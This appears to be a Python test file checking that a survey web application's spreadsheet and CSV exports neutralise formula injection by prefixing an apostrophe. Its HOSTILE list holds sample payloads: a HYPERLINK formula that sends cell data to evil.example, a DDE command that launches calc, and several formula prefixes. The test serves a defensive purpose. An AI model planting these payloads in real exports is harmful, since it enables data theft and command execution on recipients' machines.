"""Every .xlsx and .csv export shows formula-looking text as text: a spreadsheet never runs it."""
import csv
import io
import re

import openpyxl
import pytest

from core import exports
from tests.builders import PASSWORD
from tests.builders import open_survey, resident

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\tSUM(A1)", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_one_rule_neutralises_what_a_spreadsheet_would_run(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("同意") == "同意" and exports.neutralise(-5) == -5 and exports.neutralise(None) is None


def read_xlsx(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_survey_answers_are_exported_as_text_in_xlsx_and_csv(staff, world, client, simulator):  # noqa: F811
    http, headers = staff
    definition = {"sections": [{"questions": [{"id": "why", "type": "text", "title": "=原因"}]}]}
    survey = http.post("/api/v1/admin/surveys", headers=headers, json={
        "scope_kind": "compound", "scope_id": world.compound_a.id, "title": "意见", "definition": definition,
        "per": "person"}).get_json()
    open_survey(http, headers, survey["id"])
    for index, text in enumerate(HOSTILE[:4]):
        me = resident(client, simulator, http, headers, f"10{index + 1}", f"x{index}")
        answered = client.put(f"/api/v1/surveys/{survey['id']}/response", headers=me,
                              json={"answers": {"why": text}, "submit": True})
        assert answered.status_code == 200, answered.get_data(as_text=True)

    for data in (http.get(f"/api/v1/admin/surveys/{survey['id']}/export?format=xlsx").data,
                 http.get(f"/admin/surveys/{survey['id']}/export.xlsx").data):
        cells = [cell for row in read_xlsx(data) for cell in row]
        assert ("'=原因", "s") in cells
        answers = [value for value, kind in cells if isinstance(value, str) and value.lstrip("'") in HOSTILE]
        assert sorted(answers) == sorted("'" + text for text in HOSTILE[:4])
        assert all(kind != "f" for _value, kind in cells)  # no formula anywhere

    text = http.get(f"/api/v1/admin/surveys/{survey['id']}/export?format=csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert "'=原因" in rows[0]
    assert {row[-1] for row in rows[1:]} == {"'" + t for t in HOSTILE[:4]}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_officials_ledger_export_neutralises_names(client, world):
    committee = client.application.test_client()
    from tests.builders import login
    headers = {"X-CSRFToken": login(committee, "committee_a")}
    name = '=HYPERLINK("http://evil.example","台账")'
    created = committee.post("/api/v1/admin/projects", headers=headers,
                             json={"name": name, "compound_ids": [world.compound_a.id], "plan_year": 2026})
    assert created.status_code == 201, created.get_data(as_text=True)
    county = client.application.test_client()
    page = county.get("/admin/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    county.post("/admin/login", data={"username": "county_a", "password": PASSWORD, "csrf_token": token})
    exported = county.get("/admin/ledger.xlsx")
    assert exported.status_code == 200 and exported.mimetype == exports.XLSX_MIMETYPE
    cells = [cell for row in read_xlsx(exported.data) for cell in row]
    assert ("'" + name, "s") in cells
    assert all(kind != "f" for _value, kind in cells)
